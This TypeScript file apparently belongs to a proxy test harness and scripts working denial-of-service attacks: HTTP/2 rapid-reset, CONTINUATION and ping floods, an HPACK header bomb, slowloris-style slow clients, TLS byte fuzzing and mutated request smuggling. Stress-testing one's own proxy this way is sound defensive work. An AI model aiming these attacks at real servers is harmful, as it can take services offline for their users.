// What clients that mean harm do to a proxy, each as one attack that goes on until it is ended: floods of frames by
// HTTP/2 that cost their sender little, slow clients, heads and TLS gone wrong, requests that hide others.
import { connect as connectTls } from "node:tls";
import { mutate } from "../frames/mutate.ts";
import { record, written } from "../l7/hello-writer.ts";
import type { Attacker } from "./attacker.ts";
import { END_HEADERS, END_STREAM, FrameType, field, frame, headersFrame, PREFACE } from "./http2-frames.ts";
import { SMUGGLING } from "./smuggling.ts";

const { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION } = FrameType;
const FLOODS = 4; // connections beside each other
const SLOW = 100;
const DRIP_MS = 100;
const PIECE = 400; // frames
const LAST_STREAM = 2 ** 31 - 1;
const NOTHING = Buffer.alloc(0);
const TEN_BYTES = Buffer.alloc(10);

type Attack = (a: Attacker) => Promise<void>;

/** By name; the Host is always `a.example`. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "h2: continuation without end": (a) =>
    flood(a, headersFrame({ "x-a": "b" }, 0), () => many(frame(CONTINUATION, 0, 1, field("x-a", "b")))),
  "h2: empty continuation": (a) =>
    flood(a, headersFrame({ "x-a": "b" }, 0), () => many(frame(CONTINUATION, 0, 1))),
  "h2: rapid reset": (a) => streams(a, (id) => Buffer.concat([get(id), frame(RST_STREAM, 0, id, code(8))])),
  "h2: reset by its own fault": (a) =>
    streams(a, (id) => Buffer.concat([get(id, 0), frame(WINDOW_UPDATE, 0, id, code(LAST_STREAM))])),
  "h2: settings": (a) => flood(a, NOTHING, () => many(frame(SETTINGS, 0, 0))),
  "h2: settings, nothing read": (a) => flood(a, NOTHING, () => many(frame(SETTINGS, 0, 0)), true),
  "h2: pings": (a) => flood(a, NOTHING, () => many(frame(PING, 0, 0, Buffer.alloc(8)))),
  "h2: pings, nothing read": (a) => flood(a, NOTHING, () => many(frame(PING, 0, 0, Buffer.alloc(8))), true),
  "h2: empty data": (a) => flood(a, get(1, 0), () => many(frame(DATA, 0, 1))),
  "h2: padding alone": (a) => flood(a, get(1, 0), () => many(frame(DATA, 8, 1, padding()))),
  "h2: priorities": (a) => flood(a, NOTHING, () => many(frame(PRIORITY, 0, 1, Buffer.alloc(5, 3)))),
  "h2: window updates": (a) => flood(a, NOTHING, () => many(frame(WINDOW_UPDATE, 0, 0, code(1)))),
  "h2: heads that grow": (a) => streams(a, bomb),
  "h2: no room for answers": noRoom,
  "h2: any bytes": (a) => flood(a, NOTHING, () => anyFrames(a)),
  "tls: any bytes": (a) => a.again(FLOODS, () => brokenTls(a)),
  "tls: broken after the handshake": (a) => a.again(FLOODS, () => brokenLater(a)),
  "http: heads that do not end": (a) =>
    slow(a, "GET / HTTP/1.1\r\nHost: a.example\r\n", () => `X-${a.random.below(1e6)}: y\r\n`),
  "http: bodies that do not end": (a) =>
    slow(a, "POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n", () => "x"),
  "http: answers that nobody reads": unread,
  "http: heads without bounds": (a) => a.again(FLOODS, () => longHead(a)),
  "http: requests that hide others": (a) => a.again(FLOODS * 2, () => hidden(a)),
  "tcp: opened and reset": (a) => a.again(FLOODS * 4, async () => void (await a.open()).resetAndDestroy()),
};

function code(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function many(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: PIECE }, () => one));
}

function get(id: number, flags = END_STREAM): Buffer {
  const fields = { ":method": "POST", ":scheme": "http", ":authority": "a.example", ":path": "/attack" };
  return headersFrame(fields, END_HEADERS | flags, id);
}

/** A frame of DATA whose bytes are all padding. */
function padding(): Buffer {
  return Buffer.concat([Buffer.from([9]), TEN_BYTES.subarray(1)]);
}

function flood(a: Attacker, first: Buffer, piece: () => Buffer, isDeaf = false): Promise<void> {
  return a.again(FLOODS, async () => {
    const socket = await a.open(isDeaf);
    a.write(socket, Buffer.concat([PREFACE, first]));
    await a.flood(socket, piece);
  });
}

/** One stream after the other, as many as a connection has. */
function streams(a: Attacker, one: (id: number) => Buffer): Promise<void> {
  return a.again(FLOODS, async () => {
    const socket = await a.open();
    let id = 1;
    a.write(socket, PREFACE);
    await a.flood(socket, () => {
      const pieces = Array.from({ length: 20 }, (_, i) => one(id + 2 * i));
      id += 40;
      return Buffer.concat(pieces);
    });
  });
}

/** A value that is put into the table once and named thousands of times: kilobytes that become megabytes. */
function bomb(id: number): Buffer {
  const value = Buffer.alloc(3000, "x");
  const rest = value.length - 127; // as the prefix of seven bits has it (RFC 7541 §5.1)
  const long = Buffer.from([0x40, 3, 0x78, 0x2d, 0x61, 0x7f, (rest & 127) | 128, rest >> 7]);
  return frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([long, value, Buffer.alloc(3000, 0xbe)]));
}

function noRoom(a: Attacker): Promise<void> {
  const window = Buffer.concat([Buffer.from([0, 4]), code(0)]);
  return a.again(FLOODS, async () => {
    const socket = await a.open();
    a.write(socket, Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, window)]));
    const large = { ":method": "GET", ":scheme": "http", ":authority": "a.example", ":path": "/large" };
    for (let i = 0; i < 100; i++) a.write(socket, headersFrame(large, END_HEADERS | END_STREAM, 2 * i + 1));
    await a.untilClosed(socket);
  });
}

function anyFrames(a: Attacker): Buffer {
  const { random } = a;
  return Buffer.concat(
    Array.from({ length: 20 }, () => {
      const payload = Buffer.from(Array.from({ length: random.below(60) }, () => random.below(256)));
      return frame(random.below(12), random.below(256), random.pick([0, 1, 2, 3, LAST_STREAM]), payload);
    }),
  );
}

async function brokenTls(a: Attacker): Promise<void> {
  const { random, target } = a;
  const socket = await a.open(false, target.tlsPort);
  const good = record(written({ sni: target.name, alpn: ["h2", "http/1.1"] }));
  const alerts = Buffer.concat(Array.from({ length: PIECE }, () => Buffer.from([21, 3, 3, 0, 2, 1, 90])));
  const bytes = [
    () => mutate(good, good, random),
    () => Buffer.concat([Buffer.from([22, 3, 1, random.below(256), random.below(256)]), good]),
    () => Buffer.concat([good, alerts]),
    () => Buffer.from(Array.from({ length: random.below(500) }, () => random.below(256))),
  ];
  a.write(socket, Buffer.from(random.pick(bytes)()));
  await a.untilClosed(socket, 100);
  socket.destroy();
}

async function brokenLater(a: Attacker): Promise<void> {
  const { random, target } = a;
  const below = await a.open(false, target.tlsPort);
  if (below.destroyed) return;
  const isHttp2 = random.below(2) === 0;
  const tls = connectTls({
    ...{ socket: below, servername: target.name, rejectUnauthorized: false },
    ALPNProtocols: [isHttp2 ? "h2" : "http/1.1"],
  });
  tls.on("error", () => {});
  await new Promise<void>((resolve) => {
    for (const event of ["secureConnect", "close"]) tls.once(event, () => resolve());
  });
  if (random.below(2) === 0) tls.write(isHttp2 ? PREFACE : "GET / HTTP/1.1\r\nHost: a.example\r\n\r\n");
  a.write(below, Buffer.from([23, 3, 3, 0, 40, ...Array.from({ length: 40 }, () => random.below(256))]));
  await a.untilClosed(below, 100);
  tls.destroy();
  below.destroy();
}

function slow(a: Attacker, first: string, piece: () => string): Promise<void> {
  return a.again(SLOW, async () => {
    const socket = await a.open();
    a.write(socket, first);
    await a.drip(socket, piece, DRIP_MS);
  });
}

function unread(a: Attacker): Promise<void> {
  return a.again(SLOW / 2, async () => {
    const socket = await a.open(true);
    a.write(socket, "GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n".repeat(5));
    await a.untilClosed(socket, 5000);
    socket.destroy(); // who does not read does not hear that it is over
  });
}

async function longHead(a: Attacker): Promise<void> {
  const socket = await a.open();
  a.write(socket, "GET / HTTP/1.1\r\nHost: a.example\r\n");
  const line = a.random.below(2) === 0 ? "X: y\r\n".repeat(PIECE) : `X: ${"y".repeat(4000)}\r\n`;
  await a.flood(socket, () => Buffer.from(line));
}

const SPOILT = ["\r", "\n", "\r\n", "\t", " ", "\0", "\x0b", ",", ";", ":", "\x85", "chunked", "0", "\r\n "];

async function hidden(a: Attacker): Promise<void> {
  const { random } = a;
  let text = random.pick(Object.values(SMUGGLING));
  for (let i = random.below(4); i > 0; i--) {
    const at = random.below(text.length);
    text = text.slice(0, at) + random.pick(SPOILT) + text.slice(at + random.below(3));
  }
  const socket = await a.open();
  const cut = random.below(text.length);
  a.write(socket, text.slice(0, cut));
  await a.wait(random.below(3));
  a.write(socket, text.slice(cut));
  await a.untilClosed(socket, 2 * DRIP_MS);
  socket.destroy();
}
